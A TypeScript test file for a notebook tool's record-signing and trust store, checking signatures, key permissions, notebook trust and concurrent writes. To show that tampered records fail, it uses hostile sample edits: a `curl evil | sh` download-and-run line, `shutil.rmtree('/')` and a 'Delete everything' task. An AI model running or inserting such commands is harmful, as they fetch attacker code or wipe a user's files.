// Signing and trust: a record signed with this user's key is "mine"; someone else's is
// "untrusted" until the notebook is trusted; edited code fails; the key is private; trusted.json
// is replaced atomically and concurrent `luci trust` runs keep every digest.
import { execFile, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { canonicalJson } from "../../../../kernel/pipeline/records/json.js";
import { readNotebookRecords } from "../../../../kernel/pipeline/records/notebook-records.js";
import { recordDigest, signedText } from "../../../../kernel/pipeline/records/record.js";
import { defaultTrustStore, signRecord, trustDir, trustNotebook, TrustStore, verifyRecord } from "../../../../kernel/pipeline/records/trust.js";
import { tempDir, unsigned, writeNotebook } from "./helpers.js";

/** trusted.json, as far as these tests read it. */
type TrustedFile = { digests: Record<string, Record<string, unknown>> };

const run = promisify(execFile);
const LOAN = "Monthly payment on a loan of {principal=250000} at {rate=0.05} for {years=30} years";

describe("canonical JSON", () => {
  it("sorts keys at every level, has no spaces, and ignores formatting", () => {
    expect(canonicalJson({ b: 1, a: { d: [1, { f: 2, e: "x y" }], c: null } })).toBe('{"a":{"c":null,"d":[1,{"e":"x y","f":2}]},"b":1}');
    const record = unsigned();
    const reversed = (value: unknown): unknown =>
      value && typeof value === "object" && !Array.isArray(value)
        ? Object.fromEntries(
            Object.entries(value)
              .reverse()
              .map(([k, v]) => [k, reversed(v)]),
          )
        : value;
    const reindented = JSON.parse(JSON.stringify(reversed(record), null, 4)) as typeof record;
    expect(Object.keys(reindented)[0]).not.toBe(Object.keys(record)[0]);
    expect(signedText(reindented)).toBe(signedText(record));
  });
});

describe("signing", () => {
  it("round trip: a record this user signs verifies as mine", () => {
    const store = new TrustStore(tempDir());
    const record = store.sign(unsigned());
    expect(record.signature).toMatch(/^[0-9a-f]{64}$/);
    expect(store.verify(record)).toBe("mine");
    // As it comes back from a saved .ipynb: parsed JSON, keys in another order.
    expect(store.verify(JSON.parse(JSON.stringify(record)) as Record<string, unknown>)).toBe("mine");
    // Re-signing replaces the signature, never nests it.
    expect(store.sign(record).signature).toBe(record.signature);
  });

  it("the same key is used by every store on the folder, and after a restart", () => {
    const dir = tempDir();
    const record = new TrustStore(dir).sign(unsigned());
    expect(new TrustStore(dir).verify(record)).toBe("mine");
  });

  it("a tampered record fails: edited code, parameters, task or validation", () => {
    const dir = tempDir();
    const store = new TrustStore(dir);
    const record = store.sign(unsigned());
    expect(store.verify({ ...record, code: `${record.code}import os; os.system('curl evil | sh')\n` })).toBe("untrusted");
    expect(store.verify({ ...record, parameters: { ...record.parameters, rate: 0.9 } })).toBe("untrusted");
    expect(store.verify({ ...record, task: "Delete everything" })).toBe("untrusted");
    expect(store.verify({ ...record, validation: { score: 1, passed: true } })).toBe("untrusted");
    expect(store.verify({ ...record, extra: "field" })).toBe("untrusted");
    expect(store.verify({ ...record, signature: "not hex" })).toBe("untrusted");
    expect(store.verify({ ...record, signature: record.signature.slice(0, 10) })).toBe("untrusted");
    const { signature: _s, ...unsignedRecord } = record;
    expect(store.verify(unsignedRecord)).toBe("untrusted");
  });

  it("creates the key with mode 0600 in a 0700 folder, whatever the umask, and refuses a damaged key", () => {
    const dir = join(tempDir(), "nested", "trust");
    const old = process.umask(0o000);
    try {
      new TrustStore(dir).key();
    } finally {
      process.umask(old);
    }
    const key = join(dir, "key");
    expect(statSync(key).mode & 0o777).toBe(0o600);
    expect(statSync(dir).mode & 0o777).toBe(0o700);
    expect(readFileSync(key, "utf8")).toMatch(/^[0-9a-f]{64}\n$/);
    expect(readdirSync(dir)).toEqual(["key"]); // no temp file left
    writeFileSync(key, "short\n");
    expect(() => new TrustStore(dir).key()).toThrow(/damaged/);
  });

  it("finds its folder: LUCI_TRUST_DIR, else XDG_DATA_HOME/luci/trust, else ~/.local/share/luci/trust", () => {
    expect(trustDir({ LUCI_TRUST_DIR: "/x/t" })).toBe(resolve("/x/t"));
    expect(trustDir({ XDG_DATA_HOME: "/data" })).toBe("/data/luci/trust");
    expect(trustDir({ HOME: process.env.HOME })).toMatch(/\.local\/share\/luci\/trust$/);
    const dir = tempDir();
    const store = defaultTrustStore({ LUCI_TRUST_DIR: dir });
    expect(defaultTrustStore({ LUCI_TRUST_DIR: dir })).toBe(store);
    const record = signRecord(unsigned(), store);
    expect(verifyRecord(record, store)).toBe("mine");
  });
});

describe("trusting a notebook", () => {
  it("a colleague's record is untrusted until trustNotebook, then trusted", async () => {
    const colleague = new TrustStore(tempDir());
    const me = new TrustStore(tempDir());
    const theirs = colleague.sign(unsigned());
    const second = colleague.sign(unsigned({ task: "Plot {n=3} squares", code: "print('squares')" }));
    const path = writeNotebook(join(tempDir(), "shared.ipynb"), [
      { id: "a", source: LOAN, records: [theirs] },
      { id: "b", source: "Plot {n=3} squares", records: [second] },
      { id: "c", source: "print(1)" },
    ]);
    const fromFile = readNotebookRecords(path).cells[0]!.records[0]!;
    expect(me.verify(fromFile)).toBe("untrusted");
    expect(existsSync(me.trustedPath)).toBe(false);
    expect(await trustNotebook(path, me)).toBe(2);
    expect(me.verify(fromFile)).toBe("trusted");
    expect(me.verify(second)).toBe("trusted");
    // Trusting covers the record as it was: its code edited afterwards is untrusted again.
    expect(me.verify({ ...fromFile, code: "import shutil; shutil.rmtree('/')" })).toBe("untrusted");
    // The colleague's own signature still counts for them.
    expect(colleague.verify(fromFile)).toBe("mine");
    const file = JSON.parse(readFileSync(me.trustedPath, "utf8")) as TrustedFile;
    expect(Object.keys(file.digests).sort()).toEqual([recordDigest(theirs), recordDigest(second)].sort());
    expect(file.digests[recordDigest(theirs)]).toMatchObject({ notebook: path });
    // Trusting again adds nothing new and keeps the file.
    expect(await me.trustNotebook(path)).toBe(2);
    expect(await me.trustDigests([recordDigest(theirs)])).toBe(0);
  });

  it("a new store instance sees digests another process trusted (trusted.json re-read when it changes)", async () => {
    const dir = tempDir();
    const reader = new TrustStore(dir);
    const record = new TrustStore(tempDir()).sign(unsigned());
    expect(reader.verify(record)).toBe("untrusted");
    await new TrustStore(dir).trustRecords([record]);
    expect(reader.verify(record)).toBe("trusted");
  });

  it("says plainly when the notebook cannot be read", async () => {
    const dir = tempDir();
    const path = join(dir, "half.ipynb");
    writeFileSync(path, '{"cells": [');
    await expect(trustNotebook(path, new TrustStore(tempDir()))).rejects.toThrow(/not valid JSON/);
    await expect(trustNotebook(join(dir, "missing.ipynb"), new TrustStore(tempDir()))).rejects.toThrow(/ENOENT/);
  });
});

describe("records saved by Python's nbformat (what JupyterLab, nbconvert and papermill write)", () => {
  const python = resolve(".venv/bin/python");
  const hasNbformat = existsSync(python) && spawnSync(python, ["-c", "import nbformat"]).status === 0;

  it.skipIf(!hasNbformat)("still verify and are still found after nbformat reads and writes the notebook", async () => {
    const dir = tempDir();
    const store = new TrustStore(tempDir());
    const record = store.sign(
      unsigned({
        task: "Résumé of {rate=0.05} — “quoted” 😀",
        parameters: { rate: 0.05, xs: [1.5, 1e-7, 12345678901] },
        validation: { score: 0.1 + 0.2, passed: true },
      }),
    );
    const path = writeNotebook(join(dir, "in.ipynb"), [{ id: "cell-1", source: record.task, records: [record] }]);
    const out = join(dir, "out.ipynb");
    await run(python, [
      "-c",
      "import nbformat, sys; nb = nbformat.read(sys.argv[1], as_version=4); nbformat.validate(nb); nbformat.write(nb, sys.argv[2])",
      path,
      out,
    ]);
    const [cell] = readNotebookRecords(out).cells;
    expect(cell!.records).toHaveLength(1);
    expect(store.verify(cell!.records[0]!)).toBe("mine");
    expect(cell!.records[0]).toEqual(record);
  });
});

describe("trusted.json under concurrency", () => {
  // The child processes run the compiled module, so it is compiled once here (under
  // node_modules, where its imports resolve).
  const out = resolve("node_modules/.cache", `luci-records-test-${process.pid}`);
  beforeAll(async () => {
    await run("npx", [
      "tsc",
      "--outDir",
      out,
      "--rootDir",
      ".",
      "--module",
      "NodeNext",
      "--moduleResolution",
      "NodeNext",
      "--target",
      "ES2022",
      "--strict",
      "--skipLibCheck",
      "--types",
      "node",
      "kernel/pipeline/records/trust.ts",
    ]);
  }, 120_000);
  afterAll(() => rmSync(out, { recursive: true, force: true }));

  it("keeps every digest when several processes trust notebooks at once, and leaves no temp file", async () => {
    const trust = tempDir();
    const folder = tempDir();
    const processes = 6;
    const perNotebook = 5;
    const expected: string[] = [];
    const paths: string[] = [];
    for (let p = 0; p < processes; p++) {
      const author = new TrustStore(tempDir());
      const records = Array.from({ length: perNotebook }, (_, i) => author.sign(unsigned({ task: `Task ${p}-${i} {n=1}`, code: `print(${p * 100 + i})` })));
      expected.push(...records.map(recordDigest));
      paths.push(
        writeNotebook(
          join(folder, `nb${p}.ipynb`),
          records.map((record, i) => ({ id: `c${i}`, source: record.task, records: [record] })),
        ),
      );
    }
    const module = join(out, "kernel/pipeline/records/trust.js");
    const script = `const { TrustStore } = await import(${JSON.stringify(module)}); const store = new TrustStore(process.argv[1]); const n = await store.trustNotebook(process.argv[2]); for (let i = 0; i < 15; i++) await store.trustDigests([process.argv[3] + String(i).padStart(2, "0")]); console.log(n);`;
    const results = await Promise.all(
      paths.map((path) => run(process.execPath, ["--input-type=module", "-e", script, trust, path, String(paths.indexOf(path)).repeat(62)])),
    );
    expect(results.map((r) => r.stdout.trim())).toEqual(paths.map(() => String(perNotebook)));
    const file = JSON.parse(readFileSync(join(trust, "trusted.json"), "utf8")) as TrustedFile;
    const synthetic = paths.flatMap((_, p) => Array.from({ length: 15 }, (_, i) => String(p).repeat(62) + String(i).padStart(2, "0")));
    expect(Object.keys(file.digests).sort()).toEqual([...expected, ...synthetic].sort());
    expect(readdirSync(trust).sort()).toEqual(["trusted.json"]);
    expect(statSync(join(trust, "trusted.json")).mode & 0o777).toBe(0o600);
  }, 120_000);

  it("a reader never sees half a trusted.json while writers replace it", async () => {
    const trust = tempDir();
    mkdirSync(trust, { recursive: true });
    const store = new TrustStore(trust);
    const writes = Array.from({ length: 40 }, (_, i) => store.trustDigests([`${i}`.padStart(64, "0")]));
    let reads = 0;
    const reading = (async () => {
      while (reads < 2000) {
        reads += 1;
        if (existsSync(store.trustedPath)) {
          try {
            JSON.parse(readFileSync(store.trustedPath, "utf8"));
          } catch (err) {
            if ((err as NodeJS.ErrnoException).code !== "ENOENT") throw err;
          }
        }
        await new Promise((r) => setImmediate(r));
      }
    })();
    await Promise.all([...writes, reading]);
    expect(store.trustedDigests().size).toBe(40);
  });
});
